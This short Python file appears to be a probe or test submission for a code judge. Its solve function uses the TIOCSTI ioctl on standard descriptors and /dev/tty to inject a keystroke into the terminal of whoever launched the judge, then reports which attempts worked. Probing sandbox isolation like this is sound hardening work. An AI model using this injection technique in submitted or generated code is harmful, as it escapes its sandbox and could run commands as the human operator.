"""Types commands into the terminal of whoever started the judge (TIOCSTI)."""

import fcntl
import os

TIOCSTI, ENOTTY = 0x5412, 25


def solve(bait):
    got = []
    for descriptor in (0, 1, 2):
        try:
            fcntl.ioctl(descriptor, TIOCSTI, b"#")
            got.append(f"descriptor {descriptor}")
        except OSError:
            pass
    try:
        terminal = os.open("/dev/tty", os.O_RDWR)
        got.append("opened the terminal")
        fcntl.ioctl(terminal, TIOCSTI, b"#")
        got.append("typed")
    except OSError:
        pass
    return {"got": got}
